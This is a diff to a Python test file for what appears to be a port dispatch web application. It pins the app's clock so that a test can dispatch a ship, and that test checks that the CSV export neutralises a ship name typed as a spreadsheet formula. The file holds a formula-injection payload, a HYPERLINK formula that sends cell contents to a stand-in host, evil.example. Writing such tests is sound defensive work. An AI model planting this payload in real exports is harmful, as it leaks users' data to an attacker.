@@ -8,6 +8,7 @@ bounded number of live streams (#15)."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import re
 import ssl
@@ -31,6 +32,9 @@ from tests.central.web.live import PASSWORD, LiveOffice
 from tests.central.web.paydata import seed_pay
 
 DAY = "2026-12-02"
+# the office's clock: the evening before DAY (18:00 in the port), when none of its periods has
+# ended (the machine's date is later: a past escala is refused)
+EVE = dt.datetime(2026, 12, 1, 21, 0, tzinfo=dt.UTC)
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
 HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")
 
@@ -71,7 +75,13 @@ def test_the_escala_export_neutralises_a_ship_name_typed_as_a_formula(office):
     form = {"csrf_token": token, "date": DAY, "period": "07-13", "operator": "-2+3", "ship": "9300001",
             "ship_name": FORMULA, "voyage": "long_haul", "berth": "berthed", "gate_id": "g-a",
             "post": "portalo", "function": "vigia", "workers": "1"}
-    r = c.post("/escala/dispatch", data=form)
+    web = office.app.state.web
+    machine = web.now
+    web.now = lambda: EVE  # the office's clock before DAY's periods end (the fixture's is the machine's)
+    try:
+        r = c.post("/escala/dispatch", data=form)
+    finally:
+        web.now = machine
     assert r.status_code == 200, r.text[-2000:]
     r = c.get("/escala/export/ship", params={"date": DAY, "name": "9300001"})
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
